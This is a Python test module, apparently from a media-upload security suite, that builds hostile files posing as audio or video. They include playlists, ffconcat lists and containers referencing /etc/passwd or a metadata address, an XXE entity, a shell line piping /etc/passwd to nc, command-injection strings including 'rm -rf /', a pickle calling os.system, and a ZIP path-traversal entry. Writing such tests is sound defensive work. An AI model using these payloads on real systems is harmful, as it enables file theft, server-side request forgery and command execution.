"""What poses as music: lists, scripts and documents that name other files, and other formats."""

import io
import struct
import tarfile
import zipfile
from collections.abc import Iterator, Mapping

from tests.mutants import Mutant, Seed
from tests.mutants.build import box, element, id3, matroska, number, sound_track
from tests.mutants.walk import part

SECRET = "/etc/passwd"
ADDRESS = "http://127.0.0.1:9/latest/meta-data/"
TEXTS = {
    "HLS": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n",
    "HLS with an init segment": (
        '#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n#EXT-X-MAP:URI="{}"\n#EXTINF:9,\n'
        "{}\n#EXT-X-ENDLIST\n"
    ),
    "HLS with a key": (
        '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="{}"\n#EXTINF:9,\n'
        "file://{}\n#EXT-X-ENDLIST\n"
    ),
    "HLS master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{}\n",
    "HLS of a concat": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nconcat:{}|{}\n",
    "M3U": "#EXTM3U\n#EXTINF:123,A - B\n{}\n",
    "concat": "ffconcat version 1.0\nfile '{}'\n",
    "concat with options": "ffconcat version 1.0\nfile {}\noption safe 0\nduration 99999999\n",
    "list of files": "file '{}'\nfile '{}'\n",
    "metadata": ";FFMETADATA1\ntitle=$(cat {})\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=99\n",
    "SDP": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nc=IN IP4 127.0.0.1\r\nm=audio 9 RTP/AVP 0\r\n",
    "DASH": (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>'
        '<AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>{}'
        "</BaseURL></Representation></AdaptationSet></Period></MPD>"
    ),
    "XML with an entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file://{}">]><a>&b;</a>',
    "SVG": '<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{}"/></svg>',
    "HTML": "<!doctype html><script>fetch('{}')</script><audio src='{}'></audio>",
    "ASX": '<asx version="3.0"><entry><ref href="{}"/></entry></asx>',
    "PLS": "[playlist]\nFile1={}\nNumberOfEntries=1\n",
    "cue sheet": 'FILE "{}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "SubRip": "1\n00:00:00,000 --> 00:00:05,000\n{}\n",
    "WebVTT": "WEBVTT\n\n00:00.000 --> 00:05.000\n{}\n",
    "ASS": "[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00.00,,,,,,,,{}\n",
    "RAM": "{}\nrtsp://127.0.0.1/x\n",
    "shell script": "#!/bin/sh\ncat {} | nc 127.0.0.1 9\n",
    "words for a shell": "$(touch /tmp/hacked) `id` ; rm -rf / | {} \\\n" * 40,
    "words for ffmpeg": "-f concat -safe 0 -i {} -protocol_whitelist all\n" * 40,
    "JSON": '{"path": "{}"}',
    "an address": "{}",
}
HEADS = {
    "PDF": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n",
    "ELF": b"\x7fELF\x02\x01\x01" + bytes(57),
    "a Windows program": b"MZ" + bytes(126) + b"PE\0\0",
    "gzip": b"\x1f\x8b\x08" + bytes(20),
    "PNG": b"\x89PNG\r\n\x1a\n" + bytes(40),
    "JPEG": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(40),
    "GIF": b"GIF89a\x01\0\x01\0" + bytes(20),
    "MIDI": b"MThd\0\0\0\x06\0\x01\0\x01\x01\xe0MTrk\0\0\0\x04\0\xff\x2f\0",
    "Flash": b"FWS\x09" + bytes(60),
    "Flash video": b"FLV\x01\x05\0\0\0\x09\0\0\0\0" + bytes(60),
    "MPEG transport": (b"\x47\x40\0\x10" + bytes(184)) * 40,
    "MPEG program": b"\0\0\1\xba\x44\0\4\0\4\1\0\0\3\xf8" + bytes(60),
    "YUV4MPEG": b"YUV4MPEG2 W65535 H65535 F1000000:1\nFRAME\n" + bytes(99),
    "AU": b".snd" + struct.pack(">5I", 24, 0xFFFFFFFF, 3, 8000, 1) + bytes(20_000),
    "RealMedia": b".RMF" + bytes(99),
    "SQLite": b"SQLite format 3\0" + bytes(99),
    "Python's pickle": b"\x80\x04\x95\x1f\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93.",
    "UTF-16": "#EXTM3U\n/etc/passwd\n".encode("utf-16"),
    "zeros": bytes(5_000),
    "ones": b"\xff" * 5_000,
    "one byte": b"\0",
    "nothing": b"",
    "a line's end": b"\n",
    "only a RIFF head": b"RIFF\xff\xff\xff\xffWAVE",
    "only an ID3 head": b"ID3\x04\0\0\0\0\0\0",
    "only a FLAC mark": b"fLaC",
    "only an Ogg mark": b"OggS",
    "only an EBML head": b"\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\0",
    "only ftyp": b"\0\0\0\x18ftypM4A \0\0\0\0M4A isom",
}


def texts(_seeds: Mapping[str, Seed]) -> Iterator[Mutant]:
    """Texts that name a file of ours, or an address."""
    for name, text in TEXTS.items():
        yield Mutant(f"{name} of a file.mp3", text.replace("{}", SECRET).encode())
        yield Mutant(f"{name} of an address.mp4", text.replace("{}", ADDRESS).encode(), "video")


def others(_seeds: Mapping[str, Seed]) -> Iterator[Mutant]:
    """Files of other kinds, and beginnings of the accepted ones with nothing behind them."""
    for name, data in HEADS.items():
        yield Mutant(f"{name}.wav", data)


def both(seeds: Mapping[str, Seed]) -> Iterator[Mutant]:
    """Two kinds of file at once."""
    song, wav = seeds["song.mp3"].data, seeds["song.wav"].data
    list_of_files = TEXTS["HLS"].replace("{}", SECRET).encode()
    for name, head in {
        "a playlist": list_of_files,
        "HTML": b"<html><!--",
        "a PDF": HEADS["PDF"],
        "a shell script": b"#!/bin/sh\nexit\n",
        "a concat list": b"ffconcat version 1.0\n#",
    }.items():
        yield Mutant(f"{name} and an MP3", head + song)
        yield Mutant(f"{name} inside an ID3 tag", id3((b"TIT2", b"\0" + head)) + song)
        yield Mutant(f"{name} behind a WAV", wav + head)
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr(zipfile.ZipInfo("../../etc/passwd"), b"-")
    yield Mutant("a ZIP behind an MP3", song + zipped.getvalue())
    yield Mutant("an MP3 behind a ZIP", zipped.getvalue() + song)
    tarred = io.BytesIO()
    with tarfile.open(fileobj=tarred, mode="w") as archive:
        named = tarfile.TarInfo("song.wav")
        named.size = len(wav)
        archive.addfile(named, io.BytesIO(wav))
    yield Mutant("a TAR of a WAV", tarred.getvalue())
    for name, form in {"FLAC": "song.flac", "Ogg": "song.opus", "MP4": "song.m4a"}.items():
        yield Mutant(f"an MP3 and then a {name}", song + seeds[form].data)
        yield Mutant(f"a {name} and then an MP3", seeds[form].data + song)


def referring(seeds: Mapping[str, Seed]) -> Iterator[Mutant]:
    """Real containers that have their sound, or more of it, elsewhere."""
    for target in (SECRET, ADDRESS, "../../../../etc/passwd", "|cat", "concat:a|b", "\0"):
        yield from _drefs(seeds["film.mov"], target.encode())
        yield Mutant(f"MOV that redirects to {target!r}", _redirect(target.encode()), "video")
        yield Mutant(f"Matroska with an attached {target!r}", _attached(target.encode()))
        text = TEXTS["HLS"].replace("{}", target).encode()
        yield Mutant(f"AVI with subtitles of {target!r}", _gab2(seeds["film.avi"], text), "video")


def _drefs(seed: Seed, target: bytes) -> Iterator[Mutant]:
    """Data references in place of the one that says: in this very file."""
    found = part(seed.data, "moov/trak/mdia/minf/dinf/dref")
    for kind in (b"url ", b"alis", b"rsrc"):
        # Of the reference's own size, so that nothing else moves.
        room = found.end - found.start - 16
        entry = struct.pack(">I4sI", room, kind, 0) + target[: max(0, room - 12)]
        changed = seed.data[: found.body + 8] + entry.ljust(room, b"\0")[:room]
        data = changed + seed.data[len(changed) :]
        yield seed.mutant(f"its pictures are in {target!r} ({kind.decode().strip()})", data)


def _redirect(target: bytes) -> bytes:
    reference = box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(target) + 1), target, b"\0")
    return box(b"ftyp", b"qt  \0\0\0\0") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


def _attached(name: bytes) -> bytes:
    file = element(0x466E, name) + element(0x4660, b"text/plain") + number(0x46AE, 7)
    file = element(0x61A7, file + element(0x465C, b"#EXTM3U\n" + name))
    linked = element(0x1549A966, element(0x3EB923, bytes(16)) + element(0x3E83BB, name))
    sound = element(0x1F43B675, number(0xE7, 0) + element(0xA3, b"\x81\0\0\x80" + bytes(30_000)))
    track = element(0x1654AE6B, sound_track(1))
    return matroska(linked, element(0x1941A469, file), track, sound)


def _gab2(seed: Seed, text: bytes) -> bytes:
    """AVI's text track, which ffmpeg gives to whatever reader knows what is in it."""
    head = b"GAB2\0\2\0" + struct.pack("<I", 4) + b"a\0\0\0" + struct.pack("<HI", 4, len(text))
    body = head + text
    strh = b"txts" + bytes(44)
    stream = b"strl" + b"strh" + struct.pack("<I", 48) + strh + b"strf\0\0\0\0"
    added = b"LIST" + struct.pack("<I", len(stream)) + stream
    junk = part(seed.data, "hdrl/JUNK")
    hdrl, movi = part(seed.data, "hdrl"), part(seed.data, "movi")
    data = bytearray(seed.data)
    struct.pack_into("<I", data, part(seed.data, "hdrl/avih").body + 24, 3)
    struct.pack_into("<I", data, hdrl.size_at, hdrl.end - hdrl.body + len(added))
    packet = b"02tx" + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)
    struct.pack_into("<I", data, movi.size_at, movi.end - movi.body + len(packet))
    at, first = junk.start, movi.body + 4
    return bytes(data[:at] + added + data[at:first] + packet + data[first:])
